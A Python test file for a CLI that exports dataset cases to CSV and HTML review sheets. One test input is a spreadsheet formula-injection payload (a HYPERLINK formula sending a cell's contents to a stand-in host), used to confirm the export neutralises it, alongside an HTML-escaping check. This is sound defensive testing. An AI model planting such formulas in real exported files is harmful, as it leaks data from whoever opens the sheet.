"""The offline review sheet (`golden review export`): a first version exports its cases (every
one is new), a later one only what is new, changed or unconfirmed; each row carries the request,
the transcript and the expected outcome, so a reviewer can judge from the sheet alone."""

from __future__ import annotations

import csv
import importlib.util
import json
from pathlib import Path

from typer.testing import CliRunner

from golden_distill.datasets.case import Context, Expected, ExpectedAction
from golden_distill.datasets.store.publish import publish_version
from golden_distill.flows.cli import app

FACTORY = Path(__file__).parents[1] / "datasets" / "store" / "factory.py"


def _factory():
    spec = importlib.util.spec_from_file_location("golden_review_sheet_factory", FACTORY)
    assert spec and spec.loader
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def _export(store: Path, ref: str, out: Path, *extra: str) -> list[dict[str, str]]:
    result = CliRunner().invoke(
        app, ["review", "export", ref, "--store", str(store), "--out", str(out), *extra]
    )
    assert result.exit_code == 0, result.output
    if out.suffix != ".csv":
        return []
    return list(csv.DictReader(out.open(newline="")))


def test_first_version_exports_its_cases_with_request_transcript_and_expected(tmp_path):
    factory = _factory()
    cases = [factory.build_case(i) for i in range(4)]
    cases[3].user_input = '=HYPERLINK("http://x.example/?"&A1,"open")'
    for case in cases:
        case.trust = "oracle"  # nothing unconfirmed: only "new" puts them on the sheet
    cases[1].context = Context(messages=json.dumps([
        {"role": "user", "content": "refund <ORD_1>, please"},
        {"role": "assistant", "content": "Done, <b>refunded</b>."},
    ]))  # fmt: skip
    cases[1].expected = Expected(
        final_state="REFUNDED", source="native",
        actions=[ExpectedAction(name="fin_refund", arguments='{"orderId":"ORD-1"}')],
    )  # fmt: skip
    store = tmp_path / "store"
    first = publish_version(str(store), "sheet", cases=factory.cases_table(cases)).version

    rows = _export(store, "sheet@latest", tmp_path / "first.csv")
    assert [r["case_id"] for r in rows] == sorted(c.case_id for c in cases)
    assert {r["why_review"] for r in rows} == {"new"}
    row = next(r for r in rows if r["case_id"] == cases[1].case_id)
    assert row["request"] == "request number 1"
    assert row["transcript"] == "[user] refund <ORD_1>, please\n[assistant] Done, <b>refunded</b>."
    assert row["expected"].splitlines() == [
        "final_state: REFUNDED", 'action: fin_refund({"orderId":"ORD-1"})', "source: native",
    ]  # fmt: skip
    plain = next(r for r in rows if r["case_id"] == cases[0].case_id)
    assert plain["transcript"].startswith("[user] request number 0\n[tool ")
    assert all(r[c] == "" for r in rows for c in ("decision", "reason", "reviewer"))
    formula = next(r for r in rows if r["case_id"] == cases[3].case_id)
    assert formula["request"] == "'" + cases[3].user_input  # a spreadsheet shows it as text
    assert formula["transcript"].startswith("[user] =HYPERLINK(")

    # the next version: one case changed its outcome, one is new, one lost its oracle
    cases[2].outcome.final_state = "CHANGED"
    cases[3].trust = "unconfirmed"
    extra = factory.build_case(9)
    extra.trust = "oracle"
    publish_version(str(store), "sheet", cases=factory.cases_table([*cases, extra]))
    rows = _export(store, "sheet@latest", tmp_path / "second.csv")
    assert {r["case_id"]: r["why_review"] for r in rows} == {
        cases[2].case_id: "changed", cases[3].case_id: "changed+unconfirmed", extra.case_id: "new",
    }  # fmt: skip
    assert len(_export(store, "sheet@latest", tmp_path / "all.csv", "--all")) == 5

    html = tmp_path / "first.html"
    _export(store, f"sheet@{first}", html)
    text = html.read_text()
    assert "Done, &lt;b&gt;refunded&lt;/b&gt;." in text and "<b>refunded</b>" not in text
